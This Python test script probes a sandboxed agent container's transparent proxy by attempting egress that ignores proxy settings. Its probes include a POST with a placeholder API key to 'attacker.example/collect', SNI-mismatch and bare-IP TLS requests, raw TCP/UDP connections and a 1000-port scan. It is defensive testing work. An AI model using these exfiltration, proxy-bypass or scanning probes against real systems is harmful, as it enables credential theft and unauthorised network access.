"""Programs that ignore the proxy settings, run inside a cage's agent by test_transparent.py.

    podman exec AGENT python3 /e2e/transparent_scenarios.py PROXY_IP OUTSIDE_IP

Standard library and Debian's `node` only: no client here reads HTTP(S)_PROXY. Prints
one JSON object: scenario -> outcome.
"""

from __future__ import annotations

import json
import os
import socket
import ssl
import subprocess
import sys
import urllib.error
import urllib.request
from typing import Any

PLACEHOLDER = "{{ANTHROPIC_API_KEY}}"
CA = os.environ.get("SSL_CERT_FILE", "")

NODE = """
fetch(process.argv[1], {method: "POST", headers: {"x-api-key": process.argv[2]}})
  .then(async r => console.log(JSON.stringify({status: r.status, body: await r.text()})))
  .catch(e => console.log(JSON.stringify({error: String(e.cause || e)})));
"""


def node_fetch(url: str) -> dict[str, Any]:
    done = subprocess.run(
        ["node", "-e", NODE, url, PLACEHOLDER], capture_output=True, text=True, timeout=60
    )
    try:
        return dict(json.loads(done.stdout.strip().splitlines()[-1]))
    except (ValueError, IndexError):
        return {"error": (done.stdout + done.stderr)[-400:]}


def urllib_direct(url: str) -> dict[str, Any]:
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    request = urllib.request.Request(url, method="POST", headers={"x-api-key": PLACEHOLDER})
    try:
        with opener.open(request, timeout=20) as response:
            return {"status": response.status, "body": response.read(500).decode()}
    except urllib.error.HTTPError as exc:
        return {"status": exc.code, "body": exc.read(500).decode()}
    except OSError as exc:
        return {"error": f"{type(exc).__name__}: {getattr(exc, 'reason', exc)}"}


def tls_request(address: str, server_name: str | None, host: str) -> dict[str, Any]:
    """One HTTP/1.1 request over TLS to address:443 with the given SNI and Host."""
    context = ssl.create_default_context(cafile=CA)
    if server_name is None:
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
    try:
        with (
            socket.create_connection((address, 443), timeout=10) as raw,
            context.wrap_socket(raw, server_hostname=server_name) as tls,
        ):
            tls.sendall(
                f"GET /transparent HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode()
            )
            answer = b""
            while chunk := tls.recv(65536):  # Connection: close, so until the end
                answer += chunk
        text = answer.decode(errors="replace")
        return {"status": int(text.split()[1]), "body": text.partition("\r\n\r\n")[2][:400]}
    except (OSError, ValueError, IndexError) as exc:
        return {"error": f"{type(exc).__name__}: {exc}"}


def tcp(host: str, port: int) -> dict[str, Any]:
    """Refused: no connection, or one reset (or closed) before a byte arrives."""
    try:
        with socket.create_connection((host, port), timeout=5) as conn:
            conn.settimeout(5)
            data = conn.recv(100)
    except ConnectionResetError:
        return {"refused": True, "how": "reset"}
    except TimeoutError:
        return {"refused": False, "how": "connected, then silence"}
    except OSError as exc:
        return {"refused": True, "how": exc.strerror or type(exc).__name__}
    return {"refused": not data, "how": "answered" if data else "closed"}


def scan(host: str, ports: range) -> int:
    """Connection attempts to each port, as a port scanner makes them; how many were refused."""
    return sum(tcp(host, port)["refused"] for port in ports)


def udp(host: str, port: int) -> dict[str, Any]:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(3)
        try:
            sock.connect((host, port))
            sock.send(b"\x1b" + b"\0" * 47)
            sock.recv(512)
            return {"answered": True}
        except OSError as exc:
            return {"answered": False, "error": exc.strerror or type(exc).__name__}


SCAN_PORTS = range(20000, 21000)


def main(proxy_ip: str, outside: str) -> None:
    results: dict[str, Any] = {
        "resolved": socket.gethostbyname("api.anthropic.com"),
        "node": node_fetch("https://api.anthropic.com/echo-key"),
        "urllib": urllib_direct("https://api.anthropic.com/echo-key"),
        "unlisted": urllib_direct("https://attacker.example/collect"),
        "unlisted_at_proxy": tls_request(proxy_ip, "attacker.example", "attacker.example"),
        "sni_host_mismatch": tls_request(proxy_ip, "api.anthropic.com", "github.com"),
        "bare_ip_tls": tls_request(proxy_ip, None, proxy_ip),
        "tcp_22": tcp("api.anthropic.com", 22),
        "tcp_5432": tcp("api.anthropic.com", 5432),
        "udp_123": udp("api.anthropic.com", 123),
        # Addresses, no names: the default route leads to the proxy's deny listener.
        "raw_tcp_22": tcp(outside, 22),
        "raw_tcp_5432": tcp(outside, 5432),
        "raw_udp_123": udp(outside, 123),
        "raw_udp_53": udp(outside, 53),  # a resolver other than the sidecar
        "raw_ip_tls": tls_request(outside, None, outside),
    }
    results["scan_refused"] = scan(outside, SCAN_PORTS)
    print(json.dumps(results))


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
